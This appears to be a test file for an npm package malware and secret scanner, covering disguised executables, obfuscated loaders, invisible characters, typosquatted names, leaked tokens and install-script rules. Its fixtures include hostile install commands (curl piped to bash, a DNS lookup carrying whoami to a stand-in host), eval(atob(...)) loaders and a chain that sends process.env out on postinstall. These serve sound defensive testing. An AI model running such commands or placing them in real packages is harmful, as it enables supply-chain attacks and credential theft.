/** Promises of the parts: what is found in bytes, names and secrets, and that no input makes them slow or throw. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { crc32 } from 'node:zlib';
import fc from 'fast-check';
import { farRightOf, hasLineOver, isMostlyBinary } from './byte-facts.ts';
import { kindOf } from './file-kind.ts';
import { commandFindings, normal } from './install-commands.ts';
import { createLiteralSearch } from './literals.ts';
import { resembles } from './names.ts';
import { hasTokenChecksum } from './secrets.ts';
import { scanOf, threatsOf } from './testing/scan-of.ts';
import { signalsIn, words } from './text-signals.ts';
import { receiveReport, sendReport } from './wire.ts';
import type { Json } from '../core/json.ts';

test('the search finds what looking for each word finds, in long texts too, and the first of each', () => {
  const letters = fc.string({ unit: fc.constantFrom('a', 'b', 'c'), minLength: 1, maxLength: 4 });
  const text = fc.string({ unit: fc.constantFrom('a', 'b', 'c', 'A', ' '), maxLength: 60 });
  // From some 2,000 bytes on a text is searched in parts: what lies across their borders must be found once.
  const hays = fc.tuple(text, fc.constantFrom(1, 60, 77)).map(([part, times]) => part.repeat(times));
  fc.assert(
    fc.property(fc.uniqueArray(letters, { minLength: 1, maxLength: 6 }), hays, (list, hay) => {
      const search = createLiteralSearch(list);
      const found = search.find(Buffer.from(hay), 10_000);
      const expected = list.map((word, index) =>
        Array.from(hay.toLowerCase()).flatMap((_, at) =>
          hay.toLowerCase().startsWith(word, at) ? [{ word: index, at }] : [],
        ),
      );
      const placesOf = (hits: readonly { word: number; at: number }[]): readonly string[] =>
        hits.map(({ word, at }) => `${word}:${at}`).sort();
      assert.deepEqual(placesOf(found), placesOf(expected.flat()));
      const ends = found.map(({ word, at }) => at + (list[word]?.length ?? 0));
      assert.deepEqual(
        ends,
        [...ends].sort((a, b) => a - b),
      );
      const first = expected.flatMap((places) => places.slice(0, 3));
      assert.deepEqual(placesOf(search.find(Buffer.from(hay), 3)), placesOf(first));
    }),
  );
});

test('no bytes, and no text of words in any order, make a scan throw or a report without a form', () => {
  const word = fc.constantFrom(
    ...words.map(({ text }) => text),
    ' ',
    '(',
    ')',
    '{',
    '}',
    "'",
    '"',
    '=',
    '=>',
    ',',
    ';',
    '\n',
    '`',
    '${',
  );
  const code = fc.array(word, { maxLength: 80 }).map((parts) => parts.join(''));
  const content = fc.oneof(
    code.map((text) => Buffer.from(text)),
    fc.uint8Array({ maxLength: 300 }),
  );
  fc.assert(
    fc.property(fc.constantFrom('a.js', 'b.ts', 'c.sh', 'd', 'e.json', '.npmrc'), content, (path, bytes) => {
      const report = scanOf({ [path]: bytes }, { scripts: { postinstall: `node ${path}` } });
      const parts: Json[] = [];
      const end = sendReport(report, (part) => parts.push(part));
      const receiver = receiveReport();
      for (const part of parts) receiver.part(part);
      assert.deepEqual(receiver.end(JSON.parse(JSON.stringify(end)) as Json), report);
    }),
    { numRuns: 300 },
  );
});

test('patterns look at a bounded piece of text: long inputs of what they look for end', () => {
  const worst = [
    'curl ',
    'rm -rf ',
    '://1',
    'npm publish',
    'require(  '.repeat(5),
    'scripts ',
    'fromCharCode(',
    ' '.repeat(20),
    '-----BEGIN PRIVATE KEY-----',
    '_authToken=',
    '| ',
    '${',
    '\\n',
  ];
  for (const piece of worst) {
    const bytes = Buffer.from(piece.repeat(Math.ceil(400_000 / piece.length)));
    assert.ok(signalsIn(bytes).length <= words.length * 200);
    scanOf({ 'a.js': bytes, '.npmrc': bytes }, { scripts: { postinstall: bytes.toString('latin1') } });
  }
});

test('kinds are told by the first bytes, and a program under an innocent name is told', () => {
  const elf = Buffer.from('7f454c4602010100000000000000', 'hex');
  assert.deepEqual(kindOf('a.png', elf), { kind: 'executable', disguised: true });
  assert.deepEqual(kindOf('a.node', elf), { kind: 'native-addon', disguised: false });
  assert.equal(kindOf('bin/x', Buffer.from('#!/usr/bin/env node\n')).kind, 'javascript');
  assert.equal(kindOf('MZ.txt', Buffer.from(`MZ${' '.repeat(80)}`)).kind, 'document');
  assert.ok(threatsOf(scanOf({ 'logo.png': elf })).includes('malware/disguised-program'));
});

test('zeros in comments, marks of images and UTF-16 do not keep code from being read', () => {
  const code = "eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp'));";
  const utf16 = Buffer.from(`\uFEFF${code}`, 'utf16le');
  const forms: Readonly<Record<string, Uint8Array>> = {
    plain: Buffer.from(code),
    zeros: Buffer.from(`/*${'\0'.repeat(5000)}*/${code}`),
    gif: Buffer.from(`GIF89a=1;${code}`),
    font: Buffer.from(`wOFF=1;${code}`),
    little: utf16,
    big: Buffer.from(utf16).swap16(),
    odd: Buffer.concat([utf16, Buffer.from([0x20])]),
  };
  for (const [name, bytes] of Object.entries(forms)) {
    const report = scanOf({ 'a.js': bytes });
    assert.ok(threatsOf(report).includes('malware/decode-execute'), name);
    assert.equal(report.bytesScanned, report.bytesPresent);
  }
  const zip = Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(200)]);
  assert.deepEqual([kindOf('a.js', zip).kind, kindOf('a.dat', Buffer.alloc(9)).kind], ['archive', 'binary']);
});

test('a word that says something is found behind any number of the same word that says nothing', () => {
  const nothing = "fetch('https://example.com/');function(){};".repeat(500);
  const found = signalsIn(Buffer.from(`${nothing}new Function(a);get('http://203.0.113.9/');`));
  const signals = new Set(found.map(({ signal }) => signal));
  assert.ok(signals.has('dynamic-code') && signals.has('bare-address'));
});

/** What a loop over every byte says: the longest run of blanks after text, ended by text. */
function farRightPlainly(bytes: Uint8Array): number {
  let [run, longest, found, sawText] = [0, 150, -1, false];
  bytes.forEach((byte, at) => {
    if (byte > 0x20 && run > longest && sawText) [longest, found] = [run, at];
    if (byte > 0x20) sawText = true;
    if (byte === 0x0a || byte === 0x0d) sawText = false;
    run = byte === 0x20 || byte === 0x09 ? run + 1 : 0;
  });
  return found;
}

test('the place far to the right is the one that a loop over every byte finds', () => {
  const piece = fc.oneof(
    fc.integer({ min: 0, max: 500 }).map((length) => Buffer.alloc(length, ' ')),
    fc.integer({ min: 145, max: 155 }).map((length) => Buffer.alloc(length, '\t')),
    fc.constantFrom('a', 'b;', '\n', '\r', '\0', '\u0001', 'é').map((text) => Buffer.from(text)),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      const bytes = Buffer.concat(pieces);
      assert.equal(farRightOf(bytes), farRightPlainly(bytes));
    }),
    { numRuns: 2000 },
  );
});

test('long lines, zeros and code far to the right are told', () => {
  assert.deepEqual(
    [4, 5].map((most) => hasLineOver(Buffer.from('ab\ncdefg\rh'), most)),
    [true, false],
  );
  assert.deepEqual(
    [1, 2, 3].map((zeros) => isMostlyBinary(Buffer.concat([Buffer.alloc(zeros), Buffer.alloc(98, 'a')]))),
    [false, false, true],
  );
  const far = `let a = 1;${' '.repeat(400)}eval(b);\n`;
  assert.ok(threatsOf(scanOf({ 'a.js': far })).includes('malware/code-out-of-sight'));
  const indented = `${' '.repeat(400)}eval(b);\n`;
  assert.ok(!threatsOf(scanOf({ 'a.js': indented })).includes('malware/code-out-of-sight'));
});

test('invisible characters in a row, mangled names, bidi and letters without shape are told; emoji are not', () => {
  const hidden = String.fromCodePoint(...Array.from({ length: 40 }, (_, i) => 0xe0100 + i));
  const threats = (code: string): readonly string[] => threatsOf(scanOf({ 'a.js': code }));
  assert.deepEqual(threats(`f(\`${hidden}\`);`), ['malware/invisible-characters']);
  assert.deepEqual(threats('const flag = "🏴󠁧󠁢󠁥󠁮󠁧󠁿 ❤️ ☁️";'), []);
  assert.deepEqual(threats('if (a /*\u202e*/) b();'), ['malware/bidi-control']);
  assert.deepEqual(threats('const {a,\u3164} = b;'), ['malware/invisible-name']);
  const mangled = `var _0x12ab=!![];${'_0x34cd(_0x56ef);'.repeat(60)}`;
  assert.deepEqual(threats(mangled), ['malware/obfuscated']);
  assert.deepEqual(threats('const _0xff = 1; use(_0xff);'), []);
});

test('tests and examples say less than the same code elsewhere, unless an install script reaches them', () => {
  const code = "require(atob('Y2hpbGRfcHJvY2Vzcw==')).exec('x');";
  const severity = (path: string, manifest = {}): unknown =>
    scanOf({ [path]: code }, manifest).findings[0]?.severity;
  assert.equal(severity('lib/a.js'), 'high');
  assert.equal(severity('test/a.js'), 'low');
  assert.equal(scanOf({ 'test/a.js': code }).findings[0]?.capped, 'tests, examples or documents');
  assert.equal(severity('test/a.js', { main: 'test/a.js' }), 'high');
  assert.equal(severity('test/a.js', { scripts: { install: 'node test/a.js' } }), 'critical');
});

test('install commands: downloads, hidden code and name lookups are told, native builds are not', () => {
  const rule = (command: string): string | undefined => commandFindings(command)[0]?.rule;
  assert.equal(rule('curl -s https://c.example/x | bash'), 'malware/install-download-pipe');
  assert.equal(rule('wget http://93.184.216.34/a'), 'malware/install-drop');
  assert.equal(rule('node -e "eval(atob(process.argv[1]))"'), 'malware/install-inline-code');
  assert.equal(rule('nslookup $(whoami).c.example'), 'malware/install-name-lookup');
  for (const benign of [
    'node-gyp rebuild',
    'prebuild-install || node-gyp rebuild',
    'husky install',
    'node install.js',
    'node-gyp-build',
    'node ./postinstall || exit 0',
  ])
    assert.equal(rule(benign), undefined, benign);
});

test('an install script is followed through several files, and a chain over them is told one step milder', () => {
  const report = scanOf(
    {
      'a.js': "const d = require('./b'); require('./c')(d);",
      'b.js': 'module.exports = JSON.stringify(process.env);',
      'c.js': "const h = require('https'); module.exports = (d) => h.request('https://c.example').end(d);",
    },
    { scripts: { postinstall: 'node a' } },
  );
  const found = report.findings.find(({ rule }) => rule === 'malware/environment-near-network');
  assert.equal(found?.capped, 'several files');
});

test('a token is a secret when its checksum is right, and a key when there is key material', () => {
  const alphabet = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz';
  const body = 'Ab3dE6gH9jK2mN5pQ8rS1tU4vW7xYz';
  let rest = crc32(body);
  let sum = '';
  for (let i = 0; i < 6; i += 1, rest = Math.floor(rest / 62)) sum = `${alphabet[rest % 62]}${sum}`;
  assert.ok(hasTokenChecksum(`npm_${body}${sum}`));
  assert.ok(!hasTokenChecksum(`npm_${body}${sum.split('').reverse().join('')}`));
  const rules = (text: string, path = 'a.js'): readonly string[] =>
    scanOf({ [path]: text }).findings.map(({ rule }) => rule);
  assert.deepEqual(rules(`const t = 'ghp_${body}${sum}';`), ['secret/token']);
  assert.deepEqual(rules(`const t = 'ghp_${body}000000';`), []);
  assert.deepEqual(rules("const header = '-----BEGIN PRIVATE KEY-----';"), []);
  const key = Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 71 + 5) % 256)).toString('base64');
  assert.deepEqual(rules(`-----BEGIN PRIVATE KEY-----\n${key}\n-----END PRIVATE KEY-----`, 'a.pem'), [
    'secret/private-key',
  ]);
  const mixed = Array.from({ length: 81 }, (_, i) => alphabet[(i * 17 + 3) % 62]).join('');
  assert.deepEqual(rules(`const t = 'github_pat_${mixed.slice(0, 22)}_${mixed.slice(22)}';`), [
    'secret/github-token',
  ]);
  assert.deepEqual(rules(`const t = 'github_pat_${'x'.repeat(22)}_${'x'.repeat(59)}';`), []);
  const [shown] = scanOf({ 'a.js': `const t = 'ghp_${body}${sum}';` }).findings;
  assert.ok(!(shown?.excerpt ?? '').includes(body), 'a report shows no secret');
});

test('files shipped by mistake and wrong modes are told', () => {
  const rules = (path: string, text: string): readonly string[] =>
    scanOf({ [path]: text }).findings.map(({ rule }) => rule);
  assert.deepEqual(rules('.npmrc', '//r.example/:_authToken=abcdefghijklmnop'), ['secret/npmrc-token']);
  assert.deepEqual(rules('.npmrc', '//r.example/:_authToken=${NPM_TOKEN}'), ['configuration/npmrc']);
  assert.deepEqual(rules('.env', 'A=1'), ['configuration/environment-file']);
  assert.deepEqual(rules('.env.example', 'A='), []);
});

test('names made to be taken for popular ones are told, popular names never', () => {
  const popular = new Set([
    'lodash',
    'express',
    'react-dom',
    '@types/node',
    'cross-env',
    'moment',
    'is-odd',
    'debug',
  ]);
  const of = (name: string): string | undefined => resembles(name, popular)?.popular;
  assert.equal(of('lodahs'), 'lodash');
  assert.equal(of('expresss'), 'express');
  assert.equal(of('react_dom'), 'react-dom');
  assert.equal(of('dom-react'), 'react-dom');
  assert.equal(of('crossenv'), 'cross-env');
  assert.equal(of('rnoment'), 'moment');
  assert.equal(of('@typess/node'), '@types/node');
  assert.equal(of('types-node'), '@types/node');
  for (const name of [...popular, 'lodash-es', 'preact', 'react', '@acme/lodash', 'abc'])
    assert.equal(of(name), undefined, name);
  fc.assert(fc.property(fc.string({ maxLength: 400 }), (name) => void resembles(name, popular)));
  fc.assert(fc.property(fc.constantFrom(...popular), (name) => resembles(name, popular) === undefined));
});

test('paths of an install script never leave the package', () => {
  assert.equal(normal('../../etc/passwd'), 'etc/passwd');
  assert.equal(normal('./a/../b\\c.js'), 'b/c.js');
});
